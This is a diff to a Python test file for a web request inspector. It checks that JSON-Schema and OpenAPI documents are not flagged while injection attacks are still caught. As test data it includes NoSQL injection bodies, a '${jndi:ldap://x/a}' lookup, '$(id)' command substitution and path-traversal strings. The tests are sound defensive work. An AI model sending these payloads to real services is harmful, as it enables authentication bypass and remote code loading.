@@ -1,5 +1,7 @@
 """Benign values shaped like attack syntax — file paths, Windows paths, document names, redirect paths, JSON and
-filter expressions in parameters — pass at PL1, and attacks of the same shapes are still caught.
+filter expressions in parameters — pass at PL1, and attacks of the same shapes are still caught; JSON-Schema /
+OpenAPI documents (``$schema``, ``$id``, ``$ref``, ``$defs`` keys) pass at PL1 and PL2 while NoSQL operators and
+``${jndi:`` lookups next to them stay attacks (schema round, at the end).
 
 The benign values below are written by hand for this test: none of them is in the model's training data
 (checked below), and they use folder, file and key names that ``scripts/build_web_benign.py`` does not generate.
@@ -193,18 +195,123 @@ def test_plain_sql_spelling():
 
 
 def test_generated_shapes_carry_no_attack_markers():
-    """The generator's shaped values (the end of benign_train) never spell what the attack shapes are made of."""
+    """The generator's shaped values (the end of benign_train: shaped values, short paths, then JSON-Schema /
+    OpenAPI documents) never spell what the attack shapes are made of. The JSON-Schema requests carry ``$`` keys
+    and ``http`` URLs, which ``_SHAPE_FORBIDDEN`` forbids: ``schema_clean`` takes out exactly the JSON-Schema
+    keywords (``$schema``, ``$ref``, ...) and the schema URLs, and what is left of their keys and values must pass
+    the same check (no ``$ne``, ``$where``, ``${``, ``..``)."""
     sys.path.insert(0, str(REPO / "scripts"))
-    import build_web_benign
+    import build_web_benign as gen
 
     with gzip.open(ml.DATA_DIR / "benign_train.jsonl.gz", "rt", encoding="utf-8") as f:
         reqs = [json.loads(line) for line in f]
-    shaped = reqs[build_web_benign.BASE_TRAIN:]
-    assert len(shaped) == build_web_benign.SHAPES_TRAIN + build_web_benign.SHORT_TRAIN
+    end_shaped = gen.BASE_TRAIN + gen.SHAPES_TRAIN + gen.SHORT_TRAIN
+    assert len(reqs) == end_shaped + gen.SCHEMA_TRAIN
+    shaped, schemas = reqs[gen.BASE_TRAIN:end_shaped], reqs[end_shaped:]
     from urllib.parse import unquote_plus
+
+    def markers(text: str) -> list[str]:
+        low = text.lower()
+        return [f for f in gen._SHAPE_FORBIDDEN if f in low]
 
     for r in shaped:
         for name, v in ml.request_params(r):
             if name.startswith(("ARGS", "FILES", "json")) and not name.endswith(":name"):
-                low = unquote_plus(v).lower()
-                assert not [f for f in build_web_benign._SHAPE_FORBIDDEN if f in low], (name, v)
+                assert not markers(unquote_plus(v)), (name, v)
+    # the cleaning takes out schema keywords and URLs only: operators, lookups and traversals stay visible
+    for attack in ('{"$ne": null}', '{"$where": "1"}', '{"$schema": "x", "$gt": ""}', "${jndi:ldap://x/a}", "$(id)",
+                   "#/$defs/../../etc", "https://json-schema.org/draft/2020-12/schema/../../x", "javascript:$ref"):
+        assert markers(gen.schema_clean(attack)), attack
+    with_keyword = 0
+    for r in schemas:
+        values = [unquote_plus(v) for name, v in ml.request_params(r) if name.startswith(("ARGS", "FILES", "json"))]
+        with_keyword += any(kw in v for v in values for kw in gen._SCHEMA_KEYWORDS)
+        for v in values:  # keys (``json.$schema:name``) as well as values
+            assert not markers(gen.schema_clean(v)), (r["uri"], v)
+    assert with_keyword == len(schemas)  # every one of them is a schema request (the split point is right)
+
+
+# JSON-Schema / OpenAPI documents (schema round). Before the GENERATED schema requests of
+# build_web_benign.build_schemas the shipped model scored the JSON key ``$schema`` 0.79 (``$id`` 0.58, the draft-07
+# URL ``http://json-schema.org/draft-07/schema#`` 0.76): a JSON body naming its schema was an attack at PL2
+# (model_block 0.7), and at PL2 rule 610310 (``"#``: a quote before a SQL comment) fired on ``"#/$defs/..."`` in a
+# query or form value without the model clearing it (0.41). Hand-written: ids, titles and property names the
+# generator does not use, and keywords it never writes (maxLength, minimum, maximum, additionalProperties).
+SCHEMA_2020 = {
+    "$schema": "https://json-schema.org/draft/2020-12/schema",
+    "$id": "https://payments.example.net/schemas/standing-order.json",
+    "title": "StandingOrder", "type": "object", "required": ["debtorIban", "frequency"],
+    "properties": {"debtorIban": {"type": "string", "maxLength": 34},
+                   "frequency": {"enum": ["weekly", "fortnightly", "yearly"]},
+                   "firstRun": {"type": "string", "format": "date"},
+                   "amount": {"type": "number", "minimum": 0.01},
+                   "counterparty": {"$ref": "#/$defs/Counterparty"}},
+    "$defs": {"Counterparty": {"type": "object", "additionalProperties": False,
+                               "properties": {"nickname": {"type": "string"}}}},
+}
+SCHEMA_DRAFT07 = {"$schema": "http://json-schema.org/draft-07/schema#", "$id": "urn:example:standing-order",
+                  "definitions": {"executionDay": {"type": "integer", "minimum": 1, "maximum": 28}},
+                  "properties": {"day": {"$ref": "#/definitions/executionDay"}}}
+SCHEMA_INSTANCE = {"$schema": "https://payments.example.net/schemas/standing-order.json",
+                   "debtorIban": "DE89370400440532013000", "frequency": "yearly", "firstRun": "2025-07-01"}
+SCHEMA_DOCS = [SCHEMA_2020, SCHEMA_DRAFT07, SCHEMA_INSTANCE]
+_SEPARATORS = [(", ", ": "), (",", ":")]
+# NoSQL operators and lookups next to the schema keywords: still attacks (rules 610313/610314/610900, which
+# the model cannot clear or does not try to; the model alone scores ``{"$where": "sleep(5000)"}``'s value 0.99)
+NOSQL_BODIES = [{"user": {"$ne": None}, "pass": {"$ne": None}}, {"$where": "sleep(5000)"},
+                {"$schema": "https://json-schema.org/draft/2020-12/schema", "$where": "sleep(5000)"},
+                {"$schema": "https://json-schema.org/draft/2020-12/schema", "login": {"$gt": ""}}]
+LOOKUP_BODIES = [{"name": "${jndi:ldap://x/a}"},
+                 {"$schema": "https://json-schema.org/draft/2020-12/schema", "title": "${jndi:ldap://x/a}"}]
+
+
+def _json_post(doc: object, sep: tuple[str, str] = (", ", ": ")) -> dict:
+    return {"method": "POST", "uri": "/api/v1/payment-templates", "body": json.dumps(doc, separators=sep),
+            "headers": [["Host", "bank.example"], ["Content-Type", "application/json"]]}
+
+
+def test_schema_documents_are_not_training_data():
+    seen = _training_values()
+    texts = [json.dumps(d, separators=s) for d in SCHEMA_DOCS for s in _SEPARATORS]
+    names = ["https://payments.example.net/schemas/standing-order.json", "urn:example:standing-order",
+             "StandingOrder", "debtorIban", "#/$defs/Counterparty", "#/definitions/executionDay"]
+    assert not [v for v in texts + names if v in seen]
+
+
+@pytest.mark.parametrize("sep", _SEPARATORS)
+@pytest.mark.parametrize("doc", SCHEMA_DOCS, ids=["2020-12", "draft-07", "instance"])
+@pytest.mark.parametrize("paranoia", [1, 2])
+def test_json_schema_documents_pass_as_json_body_and_query_parameter(paranoia, doc, sep):
+    insp = WebInspector(paranoia=paranoia)
+    text = json.dumps(doc, separators=sep)
+    for req in (_json_post(doc, sep), _get(text, "schema")):
+        v = insp.inspect(req)
+        assert not v["attack"], (req["uri"], v["rules"], v["model"][:2])
+
+
+@pytest.mark.parametrize("key", ["$schema", "$id", "$ref", "$defs"])
+def test_model_scores_json_schema_keywords_below_pl2s_threshold(key):
+    # $schema 0.79 -> 0.23 and $ref 0.34 -> 0.24 with the schema requests; $id 0.58 -> 0.51: still >= 0.5, so it adds
+    # points to a borderline rule hit and alone it reaches PL4's model_block (0.5), but not PL3's (0.6) or below
+    p = ml.WebModel.load_default().score_value(key, explain=False).p_attack
+    assert p < 0.6, (key, p)
+    if key != "$id":
+        assert p < 0.5, (key, p)
+
+
+@pytest.mark.parametrize("doc", NOSQL_BODIES)
+@pytest.mark.parametrize("paranoia", [1, 2])
+def test_nosql_operators_in_json_bodies_are_still_attacks(paranoia, doc):
+    insp = WebInspector(paranoia=paranoia)
+    for req in (_json_post(doc), _get(json.dumps(doc, separators=(",", ":")), "filter")):
+        v = insp.inspect(req)
+        assert v["attack"] and "web_sqli" in v["labels"], (req["uri"], v["rules"], v["model"][:2])
+
+
+@pytest.mark.parametrize("paranoia", [1, 2])
+def test_jndi_lookups_are_still_attacks(paranoia):
+    insp = WebInspector(paranoia=paranoia)
+    reqs = [_json_post(doc) for doc in LOOKUP_BODIES] + [_get("${jndi:ldap://x/a}", "schema")]
+    for req in reqs:
+        v = insp.inspect(req)
+        assert v["attack"] and "web_java" in v["labels"], (req["uri"], v["rules"], v["model"][:2])
